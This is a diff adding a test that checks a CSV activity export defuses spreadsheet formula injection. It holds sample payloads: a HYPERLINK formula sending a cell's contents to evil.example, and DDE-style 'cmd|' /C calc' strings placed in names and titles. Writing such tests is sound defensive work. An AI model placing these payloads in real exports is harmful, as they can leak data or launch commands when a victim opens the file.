@@ -388,6 +388,26 @@ def test_the_csv_follows_the_scope(client, net):
     assert get(client, net["fb"], "activity:csv", scope=f"place-{net['a'].pk}").status_code == 404
 
 
+def test_the_csv_never_carries_a_live_formula(client, net):
+    # A title or a name typed as a formula must arrive in the spreadsheet as text.
+    title = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")'
+    net["a"].nom = "@SUM(1+1)*cmd|' /C calc'!A0"
+    net["a"].save()
+    net["a1"].title = title
+    net["a1"].save()
+    outside = PlaceFactory(nom="Espace sans territoire", territory=None, commune="-2+3+cmd|' /C")
+    make_workshop(outside, title="+cmd|' /C calc'!A0", starts=[paris(2024, 2, 6, 14)])
+    response = get(client, coordinator(), "activity:csv", scope="network", **QUERY)
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    first = next(row for row in rows if row[2] == "'" + title)
+    assert first[0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert first[8:] == ["10", "3", "66,7", "10,0", "4,00", "2"]  # figures stay numbers
+    other = next(row for row in rows if row[0] == "Espace sans territoire")
+    assert other[1:3] == ["'-2+3+cmd|' /C", "'+cmd|' /C calc'!A0"]
+
+
 # --- Survey results of one workshop -------------------------------------------------------------
 
 
